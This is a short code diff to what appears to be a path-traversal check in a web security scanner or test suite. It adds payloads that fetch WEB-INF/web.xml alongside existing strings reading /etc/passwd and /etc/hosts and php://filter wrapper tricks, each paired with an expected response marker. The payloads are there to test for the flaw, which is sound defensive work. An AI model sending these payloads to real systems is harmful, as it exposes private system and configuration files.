@@ -10,6 +10,7 @@ from .client import flaws_of, get, send
 
 CHECK = "web.path-traversal"
 ACCOUNTS, HOSTS, INI = "root:x:0:0:", "127.0.0.1\tlocalhost", "[fonts]"
+DESCRIPTOR = "&lt;web-app version="
 DOTS = (("../../../etc/passwd", ACCOUNTS), ("../../../../../../../../etc/hosts", HOSTS), ("./.././../../etc//passwd", ACCOUNTS),
         ("../../shop/../../etc/passwd", ACCOUNTS))  # fmt: skip
 ABSOLUTE = (("/etc/passwd", ACCOUNTS), ("/etc/hosts", HOSTS), ("//etc/./passwd", ACCOUNTS))
@@ -33,6 +34,8 @@ EXPLOITS: dict[str, tuple[tuple[str, str], ...]] = {
     "/chapters page": (("php://filter/convert.base64-encode/resource=about", "PGgyPkFib3V0IHVz"),
                           ("php://filter/read=string.toupper/resource=returns", "<H2>RETURNS"),
                           ("PHP://FILTER/string.rot13|string.toupper/resource=delivery", "<U2>QRYVIREL")),
+    "/texts text": (("../../WEB-INF/web.xml", DESCRIPTOR), (".././../WEB-INF/web.xml", DESCRIPTOR),
+                    ("../texts/../../WEB-INF//web.xml", DESCRIPTOR)),
     "/guides/lent file": tuple((path, "in the drawer") for path, _ in DOTS),
 }  # fmt: skip
 FLAWS = flaws_of(CHECK)
